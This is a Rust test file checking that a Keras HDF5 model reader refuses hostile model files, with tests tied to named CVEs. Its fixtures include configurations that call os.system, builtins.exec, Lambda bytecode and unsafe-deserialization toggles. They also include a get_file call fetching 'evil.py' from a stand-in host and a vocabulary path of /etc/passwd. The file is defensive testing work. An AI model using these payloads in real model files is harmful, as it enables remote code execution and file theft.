//! Files that want to run code, lead out of themselves, or claim more than they hold. Each is refused by name.

use std::fs;
use std::io::Read;
use std::path::Path;
use std::time::{Duration, Instant};

use dichroic_formats::{FormatError, Problem, read_hdf5_bytes};
use hdf5_pure::{AttrValue, FileBuilder};
use serde_json::{Value, json};

/// A file of `hostile.zip`, read.
fn refused(name: &str) -> FormatError {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hdf5_files/hostile.zip");
    let mut archive = zip::ZipArchive::new(fs::File::open(path).unwrap()).unwrap();
    let mut bytes = Vec::new();
    archive.by_name(name).unwrap().read_to_end(&mut bytes).unwrap();
    let start = Instant::now();
    let error = read_hdf5_bytes(bytes).unwrap_err();
    // Not a measure of speed: what is not stopped takes hours or all memory.
    assert!(start.elapsed() < Duration::from_secs(60));
    error
}

fn says(name: &str, words: &[&str]) {
    let text = refused(name).to_string();
    assert!(words.iter().all(|word| text.contains(word)), "{name}: {text}");
}

#[test]
fn cve_2025_12058_and_12060_an_external_link_to_another_file_is_not_followed() {
    says("external_link.h5", &["model_weights/dense", "kernel:0", "links"]);
    says("linked_layer.h5", &["\"dense\" is missing", "links"]);
    says("linked_weights.h5", &["missing"]);
}

#[test]
fn a_soft_link_is_not_followed() {
    says("soft_link.h5", &["kernel:0", "links"]);
}

#[test]
fn values_in_another_file_are_not_read() {
    says("external_storage.h5", &["model_weights/dense/dense/kernel:0", "external files"]);
}

#[test]
fn an_array_put_together_from_other_files_is_not_read() {
    says("virtual.h5", &["model_weights/dense/dense/kernel:0", "other files"]);
}

#[test]
fn a_weight_named_by_a_path_upwards_leads_nowhere() {
    says("upward.h5", &["../../kernel", "missing"]);
}

#[test]
fn ten_gigabytes_that_are_nowhere_are_refused_before_memory_is_taken() {
    let error = refused("unallocated.h5");
    assert!(matches!(error.problem, Problem::TooLarge { .. }), "{error}");
}

#[test]
fn an_array_of_four_terabytes_is_refused_by_its_shape() {
    let error = refused("other_shape.h5");
    assert!(matches!(error.problem, Problem::Shape { .. }), "{error}");
}

#[test]
fn a_megabyte_named_four_thousand_times_is_refused_before_it_fills_memory() {
    let error = refused("repeated.h5");
    assert!(matches!(error.problem, Problem::TooLarge { .. }), "{error}");
}

#[test]
fn a_configuration_nested_without_end_is_an_error() {
    says("nested.h5", &["model_config", "JSON"]);
}

/// The answer to a file with this configuration.
fn answer(config: &Value) -> String {
    let mut file = FileBuilder::new();
    file.set_attr("model_config", AttrValue::VarLenString(config.to_string()));
    let group = file.create_group("model_weights");
    file.add_group(group.finish());
    read_hdf5_bytes(file.finish().unwrap()).unwrap_err().to_string()
}

/// The answer to a chain of one layer.
fn layer(layer: Value) -> String {
    answer(&json!({"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "InputLayer", "config": {"name": "i", "batch_input_shape": [null, 4]}},
        layer,
    ]}}))
}

#[test]
fn cve_2024_3660_and_2025_9905_a_lambda_layer_with_code_is_refused() {
    let text = layer(json!({"class_name": "Lambda", "config": {
        "name": "lambda", "function": ["4wEAAAAAAAAA", null, null], "function_type": "lambda", "module": "__main__",
    }}));
    assert!(text.contains("layer class \"Lambda\" is not supported"), "{text}");
}

#[test]
fn a_lambda_as_an_activation_is_refused() {
    let lambda =
        json!({"class_name": "__lambda__", "config": {"value": ["4wEAAAAAAAAA", null, null]}});
    let text = layer(
        json!({"class_name": "Dense", "config": {"name": "d", "units": 1, "activation": lambda}}),
    );
    assert!(text.contains("activation"), "{text}");
}

#[test]
fn cve_2025_1550_a_module_of_pythons_own_is_refused() {
    let text = layer(
        json!({"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": null}),
    );
    assert!(text.contains("class \"os>system\" is not supported"), "{text}");
    let text = layer(
        json!({"module": "builtins", "class_name": "exec", "config": {"name": "e"}, "registered_name": null}),
    );
    assert!(text.contains("\"exec\" is not supported"), "{text}");
}

#[test]
fn cve_2025_8747_a_function_of_kerass_own_is_no_layer() {
    let fetch = json!({"module": "keras.utils", "class_name": "get_file", "registered_name": "get_file",
        "config": {"origin": "https://example.org/evil.py", "fname": "/tmp/evil.py"}});
    let text = layer(fetch.clone());
    assert!(text.contains("class \"keras.utils>get_file\" is not supported"), "{text}");
    let text = layer(
        json!({"class_name": "Dense", "config": {"name": "d", "units": 1, "kernel_initializer": fetch}}),
    );
    assert!(text.contains("kernel_initializer") && text.contains("get_file"), "{text}");
}

#[test]
fn cve_2025_9906_an_option_that_switches_safety_off_is_a_layer_that_nobody_knows() {
    let text =
        layer(json!({"module": "keras.config", "class_name": "enable_unsafe_deserialization",
        "config": {}, "registered_name": null}));
    assert!(text.contains("enable_unsafe_deserialization"), "{text}");
}

#[test]
fn a_class_registered_by_somebody_is_refused() {
    let text = layer(json!({"class_name": "Custom>Dense", "config": {"name": "d", "units": 1}}));
    assert!(text.contains("layer class \"Custom>Dense\" is not supported"), "{text}");
    let text = layer(
        json!({"module": "keras.layers", "class_name": "Dense", "registered_name": "Custom>Dense",
        "config": {"name": "d", "units": 1}}),
    );
    assert!(text.contains("class \"Custom>Dense\" is not supported"), "{text}");
}

#[test]
fn a_vocabulary_file_is_not_looked_up() {
    for class_name in ["StringLookup", "TextVectorization"] {
        let text = layer(
            json!({"class_name": class_name, "config": {"name": "l", "vocabulary": "/etc/passwd"}}),
        );
        assert!(text.contains(&format!("layer class \"{class_name}\" is not supported")), "{text}");
    }
}

#[test]
fn a_model_class_of_somebody_is_refused() {
    let text = answer(&json!({"class_name": "Custom>Model", "config": {"layers": []}}));
    assert!(text.contains("model class \"Custom>Model\" is not supported"), "{text}");
}
